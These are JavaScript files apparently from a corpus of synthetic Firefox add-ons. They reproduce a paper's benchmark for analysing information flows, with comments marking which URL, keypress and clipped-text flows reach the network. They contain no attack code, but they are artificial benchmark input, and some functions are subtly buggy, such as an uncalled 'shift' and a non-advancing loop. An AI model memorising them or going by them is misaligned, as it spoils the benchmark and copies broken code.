  return chn_formatHours(minutesLeft);
}

// --- Sound options ----------------------------------------------------------------

var chnSounds = {
  available: ["ding", "chime", "knock", "silent"],
  selected: "ding"
};

function chn_selectSound(name) {
  var i = 0;
  var ok = false;
  while (i < chnSounds.available.length) {
    if (chnSounds.available[i] == name) {
      ok = true;
    }
    i = i + 1;
  }
  if (ok) {
    chnSounds.selected = name;
  }
  return ok;
}

function chn_readSoundPref() {
  var pref = Services.prefs.getCharPref("extensions.chessnotifier.soundname");
  if (pref) {
    chn_selectSound(pref);
  }
}

chn_readSoundPref();
