// LessSpamPlease -- "Generates a reusable anonymous real mail address"
//
// Synthetic reproduction of the paper's category A benchmark. The addon
// asks its web service for a disposable alias tied to the site the user
// is currently visiting, so the current URL is explicitly sent to the
// service. The endpoint URL is assembled with String.replace on a
// template, which the prefix string domain cannot track -- reproducing
// the paper's `fail` (correct source/sink/flow type, unknown domain).

var LessSpamPlease = {
  // Template-based endpoint construction: %m is the mode, %s the site.
  endpointTemplate: "https://api.lesspamplease.org/v2/%m?site=%s",
  mode: "alias",
  aliasBox: null,
  history: [],
  maxHistory: 25,
  strings: {
    ready: "Click to generate an alias for this site",
    working: "Requesting alias ...",
    failed: "The alias service is unavailable"
  }
};

function lsp_status(text) {
  var box = document.getElementById("lsp-status");
  if (box) {
    box.value = text;
  }
}

function lsp_rememberAlias(alias) {
  LessSpamPlease.history.push(alias);
  if (LessSpamPlease.history.length > LessSpamPlease.maxHistory) {
    LessSpamPlease.history.shift;
  }
}

function lsp_fillInput(alias) {
  var field = document.getElementById("lsp-alias-output");
  if (field) {
    field.value = alias;
  }
  LessSpamPlease.aliasBox = alias;
}

function lsp_buildEndpoint(site) {
  // String.replace destroys the statically-known prefix: the analysis
  // can no longer determine the domain (the paper's failure mode).
  var withMode = LessSpamPlease.endpointTemplate.replace("%m", LessSpamPlease.mode);
  var full = withMode.replace("%s", encodeURIComponent(site));
  return full;
}

function lsp_requestAlias() {
  lsp_status(LessSpamPlease.strings.working);
  // Category A behavior: the current URL is sent to the service so the
  // alias can be tied to the visited site.
  var site = content.location.href;
  var endpoint = lsp_buildEndpoint(site);
  var req = new XMLHttpRequest();
  req.open("POST", endpoint, true);
  req.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
  req.onload = function () {
    if (req.status == 200) {
      var alias = req.responseText;
      lsp_rememberAlias(alias);
      lsp_fillInput(alias);
      lsp_status(LessSpamPlease.strings.ready);
    } else {
      lsp_status(LessSpamPlease.strings.failed);
    }
  };
  req.send("want=alias");
}

function lsp_onCommand(event) {
  lsp_requestAlias();
}

function lsp_install() {
  var button = document.getElementById("lsp-generate-button");
  if (button) {
    button.addEventListener("command", lsp_onCommand, false);
  }
  lsp_status(LessSpamPlease.strings.ready);
}

lsp_install();

// --- Alias bookkeeping -------------------------------------------------------

var lspBook = {
  bySite: {},
  revoked: [],
  stats: { created: 0, revoked: 0, reused: 0 }
};

function lsp_bookRecord(site, alias) {
  var existing = lspBook.bySite[site];
  if (existing) {
    lspBook.stats.reused = lspBook.stats.reused + 1;
    return existing;
  }
  lspBook.bySite[site] = alias;
  lspBook.stats.created = lspBook.stats.created + 1;
  return alias;
}

function lsp_bookRevoke(site) {
  var alias = lspBook.bySite[site];
  if (alias) {
    lspBook.revoked.push(alias);
    delete lspBook.bySite[site];
    lspBook.stats.revoked = lspBook.stats.revoked + 1;
    return true;
  }
  return false;
}

function lsp_bookSummary() {
  return lspBook.stats.created + " created / "
    + lspBook.stats.reused + " reused / "
    + lspBook.stats.revoked + " revoked";
}

// --- Provider blacklist ---------------------------------------------------------

var lspBlacklist = [
  "tempmail.example",
  "burner.example",
  "disposable.example",
  "throwaway.example"
];

function lsp_isBlacklisted(domainName) {
  var i = 0;
  while (i < lspBlacklist.length) {
    if (lspBlacklist[i] == domainName) {
      return true;
    }
    i = i + 1;
  }
  return false;
}

// --- Localized labels -------------------------------------------------------------

var lspLabels = {
  en: { generate: "Generate alias", revoke: "Revoke alias", stats: "Alias statistics" },
  es: { generate: "Generar alias", revoke: "Revocar alias", stats: "Estadisticas" },
  nl: { generate: "Alias aanmaken", revoke: "Alias intrekken", stats: "Statistieken" }
};

function lsp_label(key) {
  var locale = Services.prefs.getCharPref("general.useragent.locale");
  var table = lspLabels.en;
  if (locale == "es") { table = lspLabels.es; }
  if (locale == "nl") { table = lspLabels.nl; }
  var value = table[key];
  if (!value) { value = lspLabels.en[key]; }
  return value;
}
