// VKVideoDownloader -- "Downloads videos from sites"
//
// Synthetic reproduction of the paper's category B benchmark: the addon
// checks whether the current URL belongs to one of three video-player
// sites and then talks to the *corresponding* player endpoint. The
// decision reveals information about the current URL (implicit flow);
// because the three endpoints share almost no common prefix, the prefix
// string domain joins them to (effectively) unknown -- the paper's second
// `fail`.

var VKVideoDownloader = {
  endpoints: {
    vk: "http://vkontakte.ru/video_ext.php?act=info",
    rutube: "http://rutube.ru/api/video/meta?format=json",
    mailru: "https://video.mail.ru/cgi-bin/video_api"
  },
  buttonVisible: false,
  retryCount: 0,
  maxRetries: 3,
  strings: {
    idle: "No supported video on this page",
    found: "Video found -- click to download",
    busy: "Contacting video service ..."
  }
};

function vkd_label(text) {
  var label = document.getElementById("vkd-status-label");
  if (label) {
    label.value = text;
  }
}

function vkd_showButton(show) {
  VKVideoDownloader.buttonVisible = show;
  if (show) {
    vkd_label(VKVideoDownloader.strings.found);
  } else {
    vkd_label(VKVideoDownloader.strings.idle);
  }
}

function vkd_queryService(endpoint) {
  vkd_label(VKVideoDownloader.strings.busy);
  var req = new XMLHttpRequest();
  req.open("GET", endpoint, true);
  req.onload = function () {
    if (req.status == 200) {
      vkd_showButton(true);
    } else {
      vkd_showButton(false);
    }
  };
  req.send(null);
}

function vkd_pickEndpoint(host) {
  // One implicit bit per comparison: which player site the user is on.
  var endpoint = null;
  if (host == "vkontakte.ru") {
    endpoint = VKVideoDownloader.endpoints.vk;
  } else if (host == "rutube.ru") {
    endpoint = VKVideoDownloader.endpoints.rutube;
  } else if (host == "video.mail.ru") {
    endpoint = VKVideoDownloader.endpoints.mailru;
  }
  return endpoint;
}

function vkd_onPageLoad(event) {
  var host = gBrowser.currentURI.host;
  var endpoint = vkd_pickEndpoint(host);
  if (endpoint) {
    vkd_queryService(endpoint);
  } else {
    vkd_showButton(false);
  }
}

function vkd_install() {
  gBrowser.addEventListener("load", vkd_onPageLoad, true);
  vkd_label(VKVideoDownloader.strings.idle);
}

vkd_install();

// --- Site metadata ---------------------------------------------------------

var vkdSites = [
  {
    host: "vkontakte.ru",
    name: "VKontakte",
    markers: ["video_ext", "al_video"],
    needsReferer: true
  },
  {
    host: "rutube.ru",
    name: "RuTube",
    markers: ["video/meta", "player.swf"],
    needsReferer: false
  },
  {
    host: "video.mail.ru",
    name: "Mail.ru Video",
    markers: ["video_api", "corp/mail"],
    needsReferer: true
  }
];

function vkd_siteName(host) {
  var i = 0;
  while (i < vkdSites.length) {
    if (vkdSites[i].host == host) {
      return vkdSites[i].name;
    }
    i = i + 1;
  }
  return "unsupported site";
}

// --- Retry with backoff --------------------------------------------------------

var vkdRetry = {
  attempts: 0,
  baseDelayMs: 500,
  maxAttempts: 3
};

function vkd_backoffDelay() {
  var delay = vkdRetry.baseDelayMs;
  var i = 0;
  while (i < vkdRetry.attempts) {
    delay = delay * 2;
    i = i + 1;
  }
  return delay;
}

function vkd_scheduleRetry(endpoint) {
  if (vkdRetry.attempts >= vkdRetry.maxAttempts) {
    vkd_label("giving up after " + vkdRetry.attempts + " attempts");
    return;
  }
  vkdRetry.attempts = vkdRetry.attempts + 1;
  setTimeout(function () {
    vkd_queryService(endpoint);
  }, vkd_backoffDelay());
}

// --- Format picker ----------------------------------------------------------

var vkdQualities = ["240p", "360p", "480p", "720p"];

function vkd_qualityIndex(label) {
  var i = 0;
  while (i < vkdQualities.length) {
    if (vkdQualities[i] == label) {
      return i;
    }
    i = i + 1;
  }
  return -1;
}

function vkd_bestQualityUpTo(cap) {
  var capIndex = vkd_qualityIndex(cap);
  if (capIndex < 0) {
    capIndex = vkdQualities.length - 1;
  }
  return vkdQualities[capIndex];
}
