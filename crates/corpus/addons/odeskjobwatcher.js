// oDeskJobWatcher -- "Indicates oDesk job opening"
//
// Synthetic reproduction of the paper's smallest category C benchmark: a
// tiny poller that checks the oDesk job feed and updates a counter badge.

var ODeskJobWatcher = {
  feedUrl: "https://www.odesk.com/jobs/rss?q=firefox+addon",
  pollMinutes: 15,
  lastCount: 0
};

function ojw_badge(text) {
  var badge = document.getElementById("ojw-count-badge");
  if (badge) {
    badge.value = text;
  }
}

function ojw_countItems(body) {
  var count = 0;
  var at = body.indexOf("<item>");
  while (at >= 0 && count < 99) {
    count = count + 1;
    at = body.indexOf("<item>");
  }
  return count;
}

function ojw_poll() {
  var req = new XMLHttpRequest();
  req.open("GET", ODeskJobWatcher.feedUrl, true);
  req.onload = function () {
    if (req.status == 200) {
      var count = ojw_countItems(req.responseText);
      ODeskJobWatcher.lastCount = count;
      ojw_badge("" + count);
    }
  };
  req.send(null);
}

setInterval(ojw_poll, ODeskJobWatcher.pollMinutes * 60 * 1000);
ojw_poll();

// --- Feed bookkeeping (the paper's smallest benchmark stays small) -------------

function ojw_trend(previous, current) {
  if (current > previous) {
    return "up";
  }
  if (current < previous) {
    return "down";
  }
  return "flat";
}

function ojw_describe(count) {
  if (count == 0) {
    return "no openings";
  }
  if (count == 1) {
    return "1 opening";
  }
  return count + " openings";
}
