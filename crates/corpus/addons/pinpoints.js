// PinPoints -- "Save clips (addresses) from web text"
//
// Synthetic reproduction of the paper's category C benchmark and its
// `leak`: the summary documents saving clips to yourpinpoints.com, but
// the addon *also* geocodes clipped addresses through maps.google.com to
// enrich what it saves -- real, intended behavior that was only
// documented in the fine print, which the inferred signature surfaces as
// an extra network sink.

var PinPoints = {
  saveEndpoint: "http://www.yourpinpoints.com/api/clips/save?v=3",
  geocodeEndpoint: "http://maps.google.com/maps/api/geocode/json?sensor=false&address=",
  clips: [],
  maxClips: 200,
  autoGeocode: true,
  strings: {
    saved: "Clip saved",
    geocoding: "Looking up address ...",
    failed: "Could not save the clip"
  }
};

function ppt_status(text) {
  var bar = document.getElementById("ppt-status-bar");
  if (bar) {
    bar.value = text;
  }
}

function ppt_rememberClip(clip) {
  PinPoints.clips.push(clip);
}

function ppt_saveClip(text, latLng) {
  var req = new XMLHttpRequest();
  req.open("POST", PinPoints.saveEndpoint, true);
  req.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
  req.onload = function () {
    if (req.status == 200) {
      ppt_status(PinPoints.strings.saved);
    } else {
      ppt_status(PinPoints.strings.failed);
    }
  };
  var body = "clip=" + encodeURIComponent(text);
  if (latLng) {
    body = body + "&at=" + encodeURIComponent(latLng);
  }
  req.send(body);
}

function ppt_parseLatLng(response) {
  var at = response.indexOf("\"location\"");
  if (at < 0) {
    return null;
  }
  return response.substring(at);
}

function ppt_geocodeAndSave(text) {
  // The undocumented-in-summary communication: clipped text is sent to
  // the Google Maps geocoder to attach coordinates.
  ppt_status(PinPoints.strings.geocoding);
  var req = new XMLHttpRequest();
  req.open("GET", PinPoints.geocodeEndpoint + encodeURIComponent(text), true);
  req.onload = function () {
    if (req.status == 200) {
      ppt_saveClip(text, ppt_parseLatLng(req.responseText));
    } else {
      ppt_saveClip(text, null);
    }
  };
  req.send(null);
}

function ppt_onClipCommand(event) {
  var selection = window.getSelection();
  var text = selection.text;
  if (text) {
    var clip = { text: text, when: "now" };
    ppt_rememberClip(clip);
    if (PinPoints.autoGeocode) {
      ppt_geocodeAndSave(text);
    } else {
      ppt_saveClip(text, null);
    }
  }
}

function ppt_install() {
  var item = document.getElementById("ppt-context-menu-item");
  if (item) {
    item.addEventListener("command", ppt_onClipCommand, false);
  }
  var on = Services.prefs.getBoolPref("extensions.pinpoints.geocode");
  if (on === false) {
    PinPoints.autoGeocode = false;
  }
}

ppt_install();

// --- Tag parsing -------------------------------------------------------------

function ppt_parseTags(text) {
  // Tags appear as "#word" tokens inside the clipped text.
  var tags = [];
  var words = text.split(" ");
  var i = 0;
  while (i < words.length) {
    var word = words[i];
    if (word.charAt(0) == "#" && word.length > 1) {
      tags.push(word.substring(1));
    }
    i = i + 1;
  }
  return tags;
}

function ppt_hasTag(clip, tag) {
  var tags = ppt_parseTags(clip.text);
  var i = 0;
  while (i < tags.length) {
    if (tags[i] == tag) {
      return true;
    }
    i = i + 1;
  }
  return false;
}

// --- Clip list rendering -----------------------------------------------------------

function ppt_renderClipLine(clip, index) {
  var prefix = "" + (index + 1) + ". ";
  var body = clip.text;
  if (body.length > 60) {
    body = body.substring(0, 57) + "...";
  }
  return prefix + body;
}

function ppt_renderClipList() {
  var panel = document.getElementById("ppt-clip-list");
  if (!panel) {
    return;
  }
  if (PinPoints.clips.length == 0) {
    panel.value = "No clips saved yet";
    return;
  }
  var lines = [];
  var i = 0;
  while (i < PinPoints.clips.length) {
    lines.push(ppt_renderClipLine(PinPoints.clips[i], i));
    i = i + 1;
  }
  panel.value = lines.join("\n");
}

// --- Plain-text export ---------------------------------------------------------------

function ppt_exportText() {
  var out = "PinPoints export\n================\n";
  var i = 0;
  while (i < PinPoints.clips.length) {
    var clip = PinPoints.clips[i];
    out = out + "\n- " + clip.text;
    var tags = ppt_parseTags(clip.text);
    if (tags.length > 0) {
      out = out + " [" + tags.join(", ") + "]";
    }
    i = i + 1;
  }
  return out;
}
