// YoutubeDownloader -- "Youtube video downloader"
//
// Synthetic reproduction of the paper's category B benchmark. The
// developer summary implies only an *implicit* URL flow (the addon checks
// whether the current page is youtube.com before showing its download
// button). The implementation additionally extracts the video id straight
// out of the current URL and sends it to youtube.com -- the real explicit
// flow the paper reports as `leak`.

var YoutubeDownloader = {
  statsEndpoint: "http://www.youtube.com/api/stats/watchtime?ns=yt",
  infoEndpoint: "http://www.youtube.com/get_video_info?video_id=",
  qualities: ["hd720", "medium", "small"],
  preferredQuality: "medium",
  active: false,
  strings: {
    download: "Download this video",
    notVideo: "Not a video page",
    fetching: "Fetching video info ..."
  }
};

function ytd_label(text) {
  var label = document.getElementById("ytd-button-label");
  if (label) {
    label.value = text;
  }
}

function ytd_isYoutube(url) {
  // The implicit flow: whether any request happens at all reveals
  // information about the current URL.
  var where = url.indexOf("youtube.com/watch");
  if (where < 0) {
    return false;
  }
  return true;
}

function ytd_extractVideoId(url) {
  // The explicit flow: a piece of the current URL is computed and later
  // sent over the network.
  var marker = url.indexOf("v=");
  if (marker < 0) {
    return null;
  }
  var tail = url.substring(marker + 2);
  var amp = tail.indexOf("&");
  if (amp >= 0) {
    tail = tail.substring(0, amp);
  }
  return tail;
}

function ytd_reportWatch() {
  // Anonymous usage ping -- category-appropriate: no URL data flows in,
  // only the fact that a youtube page is open (implicit).
  var ping = new XMLHttpRequest();
  ping.open("GET", YoutubeDownloader.statsEndpoint, true);
  ping.send(null);
}

function ytd_fetchVideoInfo(videoId) {
  ytd_label(YoutubeDownloader.strings.fetching);
  var req = new XMLHttpRequest();
  req.open("GET", YoutubeDownloader.infoEndpoint + videoId, true);
  req.onload = function () {
    if (req.status == 200) {
      ytd_label(YoutubeDownloader.strings.download);
      YoutubeDownloader.active = true;
    }
  };
  req.send(null);
}

function ytd_onPageLoad(event) {
  var url = content.location.href;
  if (ytd_isYoutube(url)) {
    ytd_reportWatch();
    var id = ytd_extractVideoId(url);
    if (id) {
      ytd_fetchVideoInfo(id);
    }
  } else {
    ytd_label(YoutubeDownloader.strings.notVideo);
    YoutubeDownloader.active = false;
  }
}

function ytd_install() {
  gBrowser.addEventListener("load", ytd_onPageLoad, true);
  ytd_label(YoutubeDownloader.strings.notVideo);
}

ytd_install();

// --- Quality / format catalogue -------------------------------------------

var ytdFormats = [
  { itag: 22, quality: "hd720", container: "mp4", audio: true },
  { itag: 18, quality: "medium", container: "mp4", audio: true },
  { itag: 43, quality: "medium", container: "webm", audio: true },
  { itag: 5,  quality: "small", container: "flv", audio: true },
  { itag: 17, quality: "tiny", container: "3gp", audio: true }
];

function ytd_formatForQuality(quality) {
  var i = 0;
  while (i < ytdFormats.length) {
    if (ytdFormats[i].quality == quality) {
      return ytdFormats[i];
    }
    i = i + 1;
  }
  return ytdFormats[1];
}

function ytd_describeFormat(fmt) {
  return fmt.quality + " (" + fmt.container + ", itag " + fmt.itag + ")";
}

// --- Filename handling -------------------------------------------------------

function ytd_sanitizeFilename(title) {
  var cleaned = title.replace("/", "_");
  cleaned = cleaned.replace("\\", "_");
  cleaned = cleaned.replace(":", "-");
  cleaned = cleaned.trim();
  if (cleaned.length == 0) {
    cleaned = "video";
  }
  return cleaned;
}

function ytd_defaultFilename(title, fmt) {
  return ytd_sanitizeFilename(title) + "." + fmt.container;
}

// --- Download queue ------------------------------------------------------------

var ytdQueue = {
  items: [],
  active: 0,
  maxParallel: 2,
  totalCompleted: 0
};

function ytd_queueAdd(name) {
  var item = { name: name, state: "queued", progress: 0 };
  ytdQueue.items.push(item);
  ytd_queuePump();
  return item;
}

function ytd_queuePump() {
  if (ytdQueue.active >= ytdQueue.maxParallel) {
    return;
  }
  var i = 0;
  while (i < ytdQueue.items.length) {
    var item = ytdQueue.items[i];
    if (item.state == "queued" && ytdQueue.active < ytdQueue.maxParallel) {
      item.state = "running";
      ytdQueue.active = ytdQueue.active + 1;
    }
    i = i + 1;
  }
}

function ytd_queueFinish(item) {
  item.state = "done";
  item.progress = 100;
  ytdQueue.active = ytdQueue.active - 1;
  ytdQueue.totalCompleted = ytdQueue.totalCompleted + 1;
  ytd_queuePump();
}

function ytd_queueSummary() {
  var queued = 0, running = 0, done = 0;
  var i = 0;
  while (i < ytdQueue.items.length) {
    var st = ytdQueue.items[i].state;
    if (st == "queued") { queued = queued + 1; }
    else if (st == "running") { running = running + 1; }
    else { done = done + 1; }
    i = i + 1;
  }
  return queued + " queued, " + running + " running, " + done + " done";
}

// --- Options ----------------------------------------------------------------

function ytd_readPrefs() {
  var q = Services.prefs.getCharPref("extensions.ytd.quality");
  if (q) {
    YoutubeDownloader.preferredQuality = q;
  }
}

ytd_readPrefs();
