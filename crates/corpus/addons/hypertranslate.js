// HyperTranslate -- "Translates selected text when key shorts are pressed"
//
// Synthetic reproduction of the paper's category B benchmark: a keypress
// listener fires on every key, and when the configured shortcut
// (ctrl+T by default) matches, the current selection is translated via a
// fixed web service. Because the *keys pressed* decide whether the
// request happens, key-press information implicitly flows to the network;
// and since the listener runs on every keystroke, the flow is amplified
// (the paper's manual signature: key --type3--> send(translate.google.com)).

var HyperTranslate = {
  serviceUrl: "http://translate.google.com/translate_a/t?client=hx&sl=auto&tl=",
  targetLanguage: "en",
  shortcutCode: 84, // 'T'
  requireCtrl: true,
  lastTranslation: null,
  panelVisible: false,
  strings: {
    empty: "Select some text to translate",
    busy: "Translating ...",
    shortcutHint: "Press Ctrl+T to translate the selection"
  }
};

function hyt_readPrefs() {
  var lang = Services.prefs.getCharPref("extensions.hypertranslate.target");
  if (lang) {
    HyperTranslate.targetLanguage = lang;
  }
  var code = Services.prefs.getCharPref("extensions.hypertranslate.keycode");
  if (code) {
    HyperTranslate.shortcutCode = parseInt(code, 10);
  }
}

function hyt_panel(text) {
  var panel = document.getElementById("hyt-translation-panel");
  if (panel) {
    panel.value = text;
  }
}

function hyt_showTranslation(text) {
  HyperTranslate.lastTranslation = text;
  HyperTranslate.panelVisible = true;
  hyt_panel(text);
}

function hyt_translateSelection() {
  var selection = window.getSelection();
  var text = selection.text;
  if (!text) {
    hyt_panel(HyperTranslate.strings.empty);
    return;
  }
  hyt_panel(HyperTranslate.strings.busy);
  var query = HyperTranslate.serviceUrl
    + HyperTranslate.targetLanguage
    + "&text="
    + encodeURIComponent(text);
  var req = new XMLHttpRequest();
  req.open("GET", query, true);
  req.onload = function () {
    if (req.status == 200) {
      hyt_showTranslation(req.responseText);
    }
  };
  req.send(null);
}

function hyt_onKeyPress(event) {
  // The key source: every keystroke is inspected, and the decision to
  // translate reveals whether the shortcut was pressed. The structured
  // (local) guard is what makes this the paper's type3 flow.
  var code = event.keyCode;
  var modifierOk = !HyperTranslate.requireCtrl || event.ctrlKey;
  if (code == HyperTranslate.shortcutCode && modifierOk) {
    event.preventDefault();
    hyt_translateSelection();
  }
}

function hyt_install() {
  hyt_readPrefs();
  window.addEventListener("keypress", hyt_onKeyPress, false);
  hyt_panel(HyperTranslate.strings.shortcutHint);
}

hyt_install();

// --- Language catalogue --------------------------------------------------

var hytLanguages = [
  { code: "en", name: "English", rtl: false },
  { code: "hi", name: "Hindi", rtl: false },
  { code: "ar", name: "Arabic", rtl: true },
  { code: "de", name: "German", rtl: false },
  { code: "fr", name: "French", rtl: false },
  { code: "es", name: "Spanish", rtl: false },
  { code: "pt", name: "Portuguese", rtl: false },
  { code: "ru", name: "Russian", rtl: false },
  { code: "ja", name: "Japanese", rtl: false },
  { code: "zh", name: "Chinese", rtl: false },
  { code: "he", name: "Hebrew", rtl: true },
  { code: "ko", name: "Korean", rtl: false }
];

function hyt_languageName(code) {
  var i = 0;
  while (i < hytLanguages.length) {
    var entry = hytLanguages[i];
    if (entry.code == code) {
      return entry.name;
    }
    i = i + 1;
  }
  return code;
}

function hyt_isRtl(code) {
  var i = 0;
  while (i < hytLanguages.length) {
    if (hytLanguages[i].code == code) {
      return hytLanguages[i].rtl;
    }
    i = i + 1;
  }
  return false;
}

// --- Shortcut parsing ------------------------------------------------------

function hyt_parseShortcut(spec) {
  // "ctrl+T" / "alt+shift+K" style preference strings.
  var result = { ctrl: false, alt: false, shift: false, keyCode: 0 };
  var parts = spec.split("+");
  var i = 0;
  while (i < parts.length) {
    var part = parts[i];
    if (part == "ctrl") {
      result.ctrl = true;
    } else if (part == "alt") {
      result.alt = true;
    } else if (part == "shift") {
      result.shift = true;
    } else {
      result.keyCode = hyt_letterCode(part);
    }
    i = i + 1;
  }
  return result;
}

function hyt_letterCode(letter) {
  var upper = letter.toUpperCase();
  return upper.charCodeAt(0);
}

// --- Panel layout -----------------------------------------------------------

var hytPanelLayout = {
  margin: 12,
  maxWidth: 480,
  maxHeight: 220,
  fontSizes: { small: 11, normal: 13, large: 16 }
};

function hyt_panelDimensions(textLength) {
  var width = 120 + textLength * 6;
  if (width > hytPanelLayout.maxWidth) {
    width = hytPanelLayout.maxWidth;
  }
  var lines = 1 + (textLength * 6) / hytPanelLayout.maxWidth;
  var height = 30 + lines * 18;
  if (height > hytPanelLayout.maxHeight) {
    height = hytPanelLayout.maxHeight;
  }
  return { width: width, height: height };
}

function hyt_applyPanelDirection() {
  var panel = document.getElementById("hyt-translation-panel");
  if (panel) {
    if (hyt_isRtl(HyperTranslate.targetLanguage)) {
      panel.direction = "rtl";
    } else {
      panel.direction = "ltr";
    }
  }
}

hyt_applyPanelDirection();
