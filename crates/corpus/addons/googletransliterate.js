// GoogleTransliterate -- "Allows user to type in Indian languages"
//
// Synthetic reproduction of the paper's category C benchmark and its
// `leak`: the addon transliterates text through the Google input-tools
// API. It skips empty pages by checking that the current URL is not
// about:blank before contacting the service -- a real (if harmless)
// implicit flow of URL information the summary never mentions.

var GoogleTransliterate = {
  apiEndpoint: "http://www.google.com/inputtools/request?ime=transliteration_en_hi&num=5",
  language: "hi",
  buffer: "",
  active: false,
  suggestions: [],
  strings: {
    on: "Transliteration on (Hindi)",
    off: "Transliteration off",
    busy: "..."
  }
};

function gtr_indicator(text) {
  var box = document.getElementById("gtr-indicator");
  if (box) {
    box.value = text;
  }
}

function gtr_applySuggestion(field, suggestion) {
  if (field && suggestion) {
    field.value = suggestion;
  }
}

function gtr_parseSuggestions(body) {
  var list = body.split(",");
  GoogleTransliterate.suggestions = list;
  if (list.length > 0) {
    return list[0];
  }
  return null;
}

function gtr_transliterate(field) {
  var text = field.value;
  if (text && GoogleTransliterate.active) {
    // The undocumented implicit flow: the service is contacted only when
    // the user is on a real page (the current URL is inspected).
    var here = content.location.href;
    if (here != "about:blank") {
      gtr_indicator(GoogleTransliterate.strings.busy);
      var req = new XMLHttpRequest();
      req.open("GET", GoogleTransliterate.apiEndpoint + "&text=" + encodeURIComponent(text), true);
      req.onload = function () {
        if (req.status == 200) {
          gtr_applySuggestion(field, gtr_parseSuggestions(req.responseText));
          gtr_indicator(GoogleTransliterate.strings.on);
        }
      };
      req.send(null);
    }
  }
}

function gtr_onKeyUp(event) {
  // Key handling stays local: the space key only toggles the indicator
  // refresh; no key data reaches the network.
  var code = event.keyCode;
  if (code == 32) {
    gtr_indicator(GoogleTransliterate.strings.on);
  }
  var field = event.target;
  gtr_transliterate(field);
}

function gtr_onToggle(event) {
  if (GoogleTransliterate.active) {
    GoogleTransliterate.active = false;
    gtr_indicator(GoogleTransliterate.strings.off);
  } else {
    GoogleTransliterate.active = true;
    gtr_indicator(GoogleTransliterate.strings.on);
  }
}

function gtr_install() {
  document.addEventListener("keyup", gtr_onKeyUp, false);
  var toggle = document.getElementById("gtr-toggle-button");
  if (toggle) {
    toggle.addEventListener("command", gtr_onToggle, false);
  }
  gtr_indicator(GoogleTransliterate.strings.off);
}

gtr_install();

// --- Transliteration schemes ---------------------------------------------------

var gtrSchemes = [
  { code: "hi", name: "Hindi", ime: "transliteration_en_hi" },
  { code: "ta", name: "Tamil", ime: "transliteration_en_ta" },
  { code: "te", name: "Telugu", ime: "transliteration_en_te" },
  { code: "kn", name: "Kannada", ime: "transliteration_en_kn" },
  { code: "ml", name: "Malayalam", ime: "transliteration_en_ml" },
  { code: "bn", name: "Bengali", ime: "transliteration_en_bn" },
  { code: "gu", name: "Gujarati", ime: "transliteration_en_gu" },
  { code: "mr", name: "Marathi", ime: "transliteration_en_mr" },
  { code: "pa", name: "Punjabi", ime: "transliteration_en_pa" }
];

function gtr_schemeFor(code) {
  var i = 0;
  while (i < gtrSchemes.length) {
    if (gtrSchemes[i].code == code) {
      return gtrSchemes[i];
    }
    i = i + 1;
  }
  return gtrSchemes[0];
}

function gtr_switchLanguage(code) {
  var scheme = gtr_schemeFor(code);
  GoogleTransliterate.language = scheme.code;
  gtr_indicator("Transliteration on (" + scheme.name + ")");
  return scheme;
}

// --- Candidate window ------------------------------------------------------------

var gtrCandidates = {
  visible: false,
  selected: 0,
  entries: []
};

function gtr_candidatesShow(list) {
  gtrCandidates.entries = list;
  gtrCandidates.selected = 0;
  gtrCandidates.visible = list.length > 0;
}

function gtr_candidatesMove(delta) {
  if (!gtrCandidates.visible) {
    return null;
  }
  var next = gtrCandidates.selected + delta;
  if (next < 0) {
    next = gtrCandidates.entries.length - 1;
  }
  if (next >= gtrCandidates.entries.length) {
    next = 0;
  }
  gtrCandidates.selected = next;
  return gtrCandidates.entries[next];
}

function gtr_candidatesPick() {
  if (!gtrCandidates.visible) {
    return null;
  }
  gtrCandidates.visible = false;
  return gtrCandidates.entries[gtrCandidates.selected];
}

// --- Word buffer -------------------------------------------------------------------

function gtr_bufferAppend(ch) {
  GoogleTransliterate.buffer = GoogleTransliterate.buffer + ch;
}

function gtr_bufferFlush() {
  var word = GoogleTransliterate.buffer;
  GoogleTransliterate.buffer = "";
  return word;
}
