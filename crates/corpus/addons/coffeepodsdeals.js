// CoffeePodsDeals -- "Indicates coffee pods for sale"
//
// Synthetic reproduction of the paper's category C benchmark: the addon
// periodically downloads the current deals list from its vendor site and
// renders it into a toolbar menu. No interesting information leaves the
// browser; the manual signature is send(coffeepodsdeals.com).

var CoffeePodsDeals = {
  feedUrl: "http://www.coffeepodsdeals.com/feed/deals.json?version=2",
  refreshMinutes: 30,
  deals: [],
  maxShown: 8,
  currency: "USD",
  strings: {
    loading: "Checking for fresh deals ...",
    none: "No deals right now",
    error: "Could not reach the deals service"
  }
};

function cpd_menuLabel(text) {
  var label = document.getElementById("cpd-menu-label");
  if (label) {
    label.value = text;
  }
}

function cpd_clearDeals() {
  CoffeePodsDeals.deals = [];
}

function cpd_addDeal(name, price) {
  var deal = { name: name, price: price, currency: CoffeePodsDeals.currency };
  CoffeePodsDeals.deals.push(deal);
}

function cpd_renderDeals() {
  var count = CoffeePodsDeals.deals.length;
  if (count == 0) {
    cpd_menuLabel(CoffeePodsDeals.strings.none);
  } else {
    cpd_menuLabel("Deals: " + count);
  }
}

function cpd_parseFeed(body) {
  cpd_clearDeals();
  var rows = body.split("\n");
  var i = 0;
  while (i < rows.length && i < CoffeePodsDeals.maxShown) {
    var row = rows[i];
    var sep = row.indexOf("|");
    if (sep > 0) {
      cpd_addDeal(row.substring(0, sep), row.substring(sep + 1));
    }
    i = i + 1;
  }
}

function cpd_refresh() {
  cpd_menuLabel(CoffeePodsDeals.strings.loading);
  var req = new XMLHttpRequest();
  req.open("GET", CoffeePodsDeals.feedUrl, true);
  req.onload = function () {
    if (req.status == 200) {
      cpd_parseFeed(req.responseText);
      cpd_renderDeals();
    } else {
      cpd_menuLabel(CoffeePodsDeals.strings.error);
    }
  };
  req.send(null);
}

function cpd_onMenuOpen(event) {
  cpd_renderDeals();
}

function cpd_install() {
  var menu = document.getElementById("cpd-menu");
  if (menu) {
    menu.addEventListener("popupshowing", cpd_onMenuOpen, false);
  }
  setInterval(cpd_refresh, CoffeePodsDeals.refreshMinutes * 60 * 1000);
  cpd_refresh();
}

cpd_install();

// --- Currency formatting -----------------------------------------------------

var cpdCurrencies = {
  USD: { symbol: "$", decimals: 2, before: true },
  EUR: { symbol: "EUR ", decimals: 2, before: true },
  GBP: { symbol: "GBP ", decimals: 2, before: true },
  JPY: { symbol: "JPY ", decimals: 0, before: true }
};

function cpd_formatPrice(amount, code) {
  var spec = cpdCurrencies[code];
  if (!spec) {
    spec = cpdCurrencies.USD;
  }
  var text = "" + amount;
  if (spec.before) {
    return spec.symbol + text;
  }
  return text + spec.symbol;
}

